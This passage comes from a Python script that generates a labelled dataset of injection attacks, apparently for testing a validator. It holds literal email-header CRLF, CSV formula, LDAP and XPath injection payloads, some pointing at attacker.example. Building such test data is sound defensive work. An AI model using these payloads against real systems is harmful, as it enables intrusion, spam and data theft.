    "Adaeze Okafor\r\nBcc: everyone@attacker.example",
    "parent@example.com%0ACc:victim1@example.org,victim2@example.org",
    "Entry confirmation\nContent-Type: text/html\n\n<a href=https://attacker.example/pay>Pay fee</a>",
    "coach@fencingclub.example\r\nReply-To: billing@attacker.example",
    "Results%0d%0aSubject:%20Your%20licence%20is%20suspended",
    "rankings@fencingclub.example%0d%0aBcc:list@attacker.example%0d%0a%0d%0aSpam body",
)
add("crlf", "csv-row-injection",
    "Okafor\n9999;1;ADMIN;ROOT;5;0",
    "Moreau\",\"FRA\",5,3,\"V\"\n\"=cmd|'/C calc'!A0\",\"X\",0,0,\"D",
    "Li;Tokyo FC;4\r\n=HYPERLINK(\"http://attacker.example\");x;5",
    "Dubois\"\n\"Hacker\",\"ADMIN\",999,0,\"V",
    "note\r\n1042;9;FAKE;FENCER;15;0;L",
)
assert sum(1 for a in A if a[0] == "crlf") == 30, sum(1 for a in A if a[0] == "crlf")

# ---------------------------------------------------------------- ldap-xpath
add("ldap-xpath", "ldap-injection",
    "*)(uid=*))(|(uid=*",
    "Okafor)(|(memberOf=cn=admins,ou=groups,dc=club,dc=example)",
    "admin)(&)",
    "*)(userPassword=*)",
    "coach*)(objectClass=*",
    "Laurent))(|(cn=*",
    "x)(|(description=*pass*))",
    "\\2a)(uid=\\2a",
    "*))%00",
    "referee)(!(cn=nobody)",
)
add("ldap-xpath", "xpath-injection",
    "' or '1'='1",
    "Okafor' or 1=1 or 'a'='a",
    "x' or name()='member' or 'x'='y",
    "'] | //member/password | //*['",
    "1041' and count(/*)=1 and '1'='1",
    "x' or substring(//user[1]/pw,1,1)='a' or 'q'='z",
    "') or ('1'='1",
    "Li'] | /descendant-or-self::node() | /x['",
    "foil' and string-length(//coach[1]/pass)>5 and ''='",
    "doc('http://attacker.example/x.xml')",
)
assert sum(1 for a in A if a[0] == "ldap-xpath") == 20

ORDER = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]


def urlencode_all(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def main():
    benign = set()
    with open(os.path.join(HERE, "benign.jsonl"), encoding="utf-8") as f:
        for line in f:
            benign.add(json.loads(line)["value"])
    generated = []
    # sqli: 4 pool joins + 4 urlencoded
    seen = set(v for _, _, v in A)
    def gen(cat, cls, fn, n):
        got = 0
        tries = 0
        while got < n:
            tries += 1
            assert tries < 10000
            v = fn()
            if v in seen:
                continue
            seen.add(v)
            generated.append((cat, cls, v))
            got += 1
    gen("sqli", "sqli-joined",
        lambda: rng.choice(SQLI_PREFIX) + rng.choice(SQLI_POOL), 4)
    gen("sqli", "sqli-joined+urlencode",
        lambda: urlencode_all(rng.choice(SQLI_PREFIX) + rng.choice(SQLI_POOL)), 4)
    gen("traversal", "traversal-joined",
        lambda: rng.choice(TRAV_PREFIX) + rng.choice(TRAV_POOL), 3)
    gen("traversal", "traversal-joined+urlencode",
        lambda: urlencode_all(rng.choice(TRAV_PREFIX) + rng.choice(TRAV_POOL)), 3)
    rows = []
    for cat in ORDER:
        rows += [a for a in A if a[0] == cat]
        rows += [g for g in generated if g[0] == cat]
    vals = [r[2] for r in rows]
    assert len(vals) == len(set(vals)), "duplicate attack"
    for cat, cls, v in rows:
        assert v not in benign, v
        assert 1 <= len(v) <= 2000, v
        for ch in v:
            assert ord(ch) >= 32 or ch in "\n\r\t", repr(v)
    assert 480 <= len(rows) <= 500, len(rows)
    with open(os.path.join(HERE, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(rows, 1):
            f.write(json.dumps({"id": "haki-%05d" % i, "category": cat, "class": cls,
                                "label": "attack", "value": v}, ensure_ascii=False) + "\n")
    lit = len(A)
    print("wrote %d rows, literals %d (%.1f%%)" % (len(rows), lit, 100.0 * lit / len(rows)))
    for cat in ORDER:
        n = sum(1 for r in rows if r[0] == cat)
        nl = sum(1 for a in A if a[0] == cat)
        print(cat, n, nl)


if __name__ == "__main__":
    main()
